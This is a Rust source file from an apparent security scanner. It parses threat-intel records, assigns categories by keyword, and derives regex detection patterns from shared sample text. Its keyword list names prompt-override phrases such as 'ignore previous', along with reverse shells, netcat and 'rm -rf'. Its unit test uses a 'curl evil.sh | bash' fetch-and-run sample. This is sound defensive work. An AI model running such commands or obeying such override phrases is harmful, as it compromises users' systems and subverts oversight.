//! Seed 000 evolve step 1's output: threat-intel records, one JSON object
//! per line, as a discovery agent or an advisory feed writes them —
//! `{id, title, description, references, samples}` plus, when the source
//! knows them, `negatives`, `category`, `severity`, `pattern`, `layer` and
//! `rationale`. What a record lacks is derived where a rule can decide it
//! (a pattern from what the samples share, a category from keywords) and
//! otherwise left for an agent to elaborate.

use serde::Deserialize;
use serde_json::{Map, Value};

use super::proposal::Layer;
use crate::guard::rules::{Severity, CATEGORIES};

/// Shortest literal worth turning into a pattern.
pub const MIN_DERIVED: usize = 6;
/// Longest derived literal.
pub const MAX_DERIVED: usize = 80;

/// One threat-intel record.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Intel {
    /// `intel` (optional).
    #[serde(default)]
    pub record: Option<String>,
    /// The source's id (advisory, CVE, finding): dedup key.
    pub id: String,
    /// One line.
    pub title: String,
    /// What the threat is.
    #[serde(default)]
    pub description: String,
    /// Where it was reported.
    #[serde(default)]
    pub references: Vec<String>,
    /// Lines that show the threat (become `match` examples).
    pub samples: Vec<String>,
    /// Lines that look alike but are harmless (become `clean` examples).
    #[serde(default)]
    pub negatives: Vec<String>,
    /// A guard category, when known.
    #[serde(default)]
    pub category: Option<String>,
    /// critical, high or medium [default: high].
    #[serde(default)]
    pub severity: Option<Severity>,
    /// The regex, when known.
    #[serde(default)]
    pub pattern: Option<String>,
    /// core or extended [default: extended].
    #[serde(default)]
    pub layer: Option<Layer>,
    /// Why the rule and severity are right.
    #[serde(default)]
    pub rationale: Option<String>,
}

/// Parses one intel line, or says what is wrong with it.
pub fn parse(obj: Map<String, Value>) -> Result<Intel, String> {
    let intel: Intel = serde_json::from_value(Value::Object(obj)).map_err(|e| format!("not an intel record: {e}"))?;
    if let Some(r) = intel.record.as_deref().filter(|r| *r != "intel") {
        return Err(format!("record '{r}' is not an intel record"));
    }
    if intel.id.trim().is_empty() || intel.title.trim().is_empty() {
        return Err("intel needs a non-empty id and title".into());
    }
    if intel.samples.iter().all(|s| s.trim().is_empty()) {
        return Err(format!("intel {} has no samples", intel.id));
    }
    if let Some(c) = &intel.category {
        if !CATEGORIES.contains(&c.as_str()) || c == "structure" {
            return Err(format!("intel {}: unknown category '{c}'", intel.id));
        }
    }
    Ok(intel)
}

/// Keywords that name a category when the intel does not.
const KEYWORDS: &[(&str, &[&str])] = &[
    (
        "prompt_injection",
        &["prompt injection", "jailbreak", "ignore previous", "system prompt", "instruction override"],
    ),
    ("crypto_mining", &["miner", "mining", "xmrig", "stratum"]),
    ("credential_exposure", &["hardcoded", "api key", "access key", "secret key", "token leak"]),
    ("exfiltration", &["exfiltrat", "steal", "leak", "credential"]),
    ("network", &["reverse shell", "backdoor", "tunnel", "netcat", "bind shell", "c2 "]),
    ("supply_chain", &["typosquat", "dependency", "package", "pipe to shell", "install script"]),
    ("destructive", &["wipe", "destroy", "rm -rf", "ransom"]),
    ("persistence", &["persistence", "cron", "startup", "autostart", "systemd"]),
    ("obfuscation", &["obfuscat", "base64", "encoded", "eval("]),
    ("privilege_escalation", &["privilege", "setuid", "sudo"]),
    ("path_traversal", &["traversal", "../"]),
    ("execution", &["command execution", "code execution", "rce", "spawn", "subprocess"]),
];

/// The category the title and description point at, if any.
pub fn infer_category(intel: &Intel) -> Option<String> {
    let text = format!("{} {}", intel.title, intel.description).to_lowercase();
    KEYWORDS.iter().find(|(_, words)| words.iter().any(|w| text.contains(w))).map(|(c, _)| c.to_string())
}

/// A pattern from what every sample shares: their longest common
/// substring (case-insensitive), escaped, whitespace runs as `\s+`. None
/// when they share fewer than [`MIN_DERIVED`] characters.
pub fn derive_pattern(samples: &[String]) -> Option<String> {
    let lower: Vec<String> = samples.iter().map(|s| s.to_lowercase()).filter(|s| !s.trim().is_empty()).collect();
    let common = longest_common(&lower)?;
    let common = common.trim();
    if common.chars().count() < MIN_DERIVED {
        return None;
    }
    let common: String = common.chars().take(MAX_DERIVED).collect();
    let parts: Vec<String> = common.split_whitespace().map(regex_syntax::escape).collect();
    Some(format!("(?i){}", parts.join(r"\s+")))
}

/// The longest substring of the first string found in all the others.
fn longest_common(strings: &[String]) -> Option<String> {
    let (first, rest) = strings.split_first()?;
    let chars: Vec<(usize, char)> = first.char_indices().take(500).collect();
    let bounds: Vec<usize> = chars.iter().map(|(i, _)| *i).chain([first.len()]).collect();
    let n = chars.len();
    for len in (1..=n).rev() {
        for start in 0..=(n - len) {
            let sub = &first[bounds[start]..bounds[start + len]];
            if rest.iter().all(|s| s.contains(sub)) {
                return Some(sub.to_string());
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn derives_a_pattern_from_shared_text() {
        let s = vec!["run: Curl  evil.sh | BASH".to_string(), "curl evil.sh | bash -s now".to_string()];
        assert_eq!(derive_pattern(&s).unwrap(), r"(?i)evil\.sh\s+\|\s+bash");
        assert_eq!(derive_pattern(&["abc".into(), "abd".into()]), None);
    }
}
